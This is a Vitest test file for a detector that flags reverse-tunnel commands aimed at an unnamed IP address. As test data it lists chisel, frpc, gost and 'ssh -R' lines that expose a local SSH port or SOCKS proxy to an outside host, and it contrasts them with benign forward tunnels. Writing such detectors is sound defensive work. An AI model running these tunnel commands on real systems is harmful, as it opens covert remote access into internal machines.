import { describe, expect, it } from 'vitest';
import { doorOpenedTo } from './tunnel';

const to = (line: string): string => doorOpenedTo(line.split(' '));

describe('a door opened to an address without a name', () => {
  it.each([
    ['chisel client 203.0.113.9:8080 R:socks'],
    ['upd client https://203.0.113.9:443 R:2222:127.0.0.1:22'],
    ['frpc tcp --server_addr 203.0.113.9:7000 --local_port 22'],
    ['rs -connect 203.0.113.9:8443 -pass x'],
    ['./x tcp -s 203.0.113.9 -P 7000 -l 22 -r 6000'],
    ['gost -L=rtcp://:2222/:22 -F=relay+tls://203.0.113.9:443'],
    ['sshpass -p x ssh -N -R 2222:172.17.0.1:22 t@203.0.113.9'],
    ['ssh -o StrictHostKeyChecking=no -fNR 2222:localhost:22 t@203.0.113.9'],
  ])('%s', (line) => {
    expect(to(line)).toBe('203.0.113.9');
  });
  it.each([
    ['chisel client https://tunnel.example.org R:2222:host:22'],
    ['openssl s_client -connect 203.0.113.9:443 -pass pass:x'],
    ['chisel client 10.0.0.5:8080 R:socks'],
    ['chisel server --reverse --port 8080'],
    ['frpc -c /etc/frp/frpc.toml'],
    ['gost -L=:8080 -F=socks5://203.0.113.9:1080'],
    ['ssh -N -L 5432:localhost:5432 deploy@203.0.113.9'],
    ['ssh -N -R 8080:localhost:80 deploy@203.0.113.9'],
    ['ssh root@203.0.113.9'],
    ['mysql client 203.0.113.9:3306 r:1'],
  ])('not %s', (line) => {
    expect(to(line)).toBe('');
  });
});
